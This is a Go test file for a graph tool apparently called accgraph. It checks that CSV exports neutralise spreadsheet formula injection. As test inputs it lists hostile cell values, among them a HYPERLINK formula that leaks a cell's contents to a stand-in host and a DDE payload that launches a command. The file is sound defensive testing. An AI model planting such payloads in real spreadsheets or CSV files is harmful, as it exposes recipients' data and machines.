package reliability

import (
	"bytes"
	"context"
	"encoding/csv"
	"io"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/accgraph/accgraph/graph"
	"github.com/accgraph/accgraph/graph/graphtest"
	"github.com/accgraph/accgraph/seed"
)

// formulas are names a hostile editor or import could store: each starts a formula, or
// a line, when a spreadsheet opens the CSV.
var formulas = []string{`=HYPERLINK("http://evil.example/?"&A1,"open")`, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1"}

// TestCSVCellsCannotStartFormulas is issue 17, item 5: a name starting with = + - @, a tab
// or a CR went raw into /saved/*.csv. Every CSV accgraph writes (saved queries over HTTP
// and `query run --format csv`, which the explorer's download also is, and
// `export --format csv`) puts a single quote before such a cell (OWASP's rule).
func TestCSVCellsCannotStartFormulas(t *testing.T) {
	db := graphtest.MustOpenDB(t)
	ctx := context.Background()
	ds, err := seed.Load(seed.Data())
	if err != nil {
		t.Fatal(err)
	}
	for _, e := range ds.Entities { // the verdicts of the court-verdicts saved query
		if v, ok := e.(*graph.Verdict); ok {
			v.Name = formulas[len(v.ID)%len(formulas)]
		}
	}
	n := 0
	for _, e := range ds.Entities {
		if p, ok := e.(*graph.Person); ok && n < len(formulas) {
			p.Name, n = formulas[n], n+1
		}
	}
	if _, err := db.Write(ctx, ds); err != nil {
		t.Fatal(err)
	}
	srv := serve(t, db, nil)
	saveBuiltInQueries(t, srv, db)

	resp, err := (&http.Client{Timeout: 10 * time.Second}).Get(srv.URL() + "/saved/court-verdicts.csv")
	if err != nil {
		t.Fatal(err)
	}
	body, _ := io.ReadAll(resp.Body)
	resp.Body.Close()
	checkCells(t, "/saved/court-verdicts.csv", body, 1)

	dir := t.TempDir()
	if err := seed.Export(ctx, db, "csv", dir, nil); err != nil {
		t.Fatal(err)
	}
	nodes, err := os.ReadFile(filepath.Join(dir, "nodes.csv"))
	if err != nil {
		t.Fatal(err)
	}
	checkCells(t, "export --format csv: nodes.csv", nodes, len(formulas))

	var out bytes.Buffer
	cmd := exec.Command(accgraphBinary(t), "query", "run", "court-verdicts", "--format", "csv")
	cmd.Env = append(os.Environ(), "NEO4J_URI="+os.Getenv("NEO4J_URI"), "ACCGRAPH_LOG_LEVEL=warn")
	cmd.Stdout, cmd.Stderr = &out, os.Stderr
	if err := cmd.Run(); err != nil {
		t.Fatalf("accgraph query run --format csv: %v", err)
	}
	checkCells(t, "query run --format csv", out.Bytes(), 1)
}

// checkCells parses a CSV and fails on any cell that starts a formula; at least want
// cells must carry the quote that neutralised one.
func checkCells(t *testing.T, what string, data []byte, want int) {
	t.Helper()
	records, err := csv.NewReader(bytes.NewReader(data)).ReadAll()
	if err != nil {
		t.Fatalf("%s: %v", what, err)
	}
	quoted := 0
	for _, r := range records {
		for _, cell := range r {
			if cell != "" && strings.ContainsRune("=+-@\t\r\n", rune(cell[0])) {
				t.Errorf("%s: a cell starts a formula: %q", what, cell)
			}
			for _, f := range formulas {
				if cell == "'"+f {
					quoted++
				}
			}
		}
	}
	if quoted < want {
		t.Errorf("%s: %d cells carry a neutralised name, want at least %d:\n%.1000s", what, quoted, want, data)
	}
}
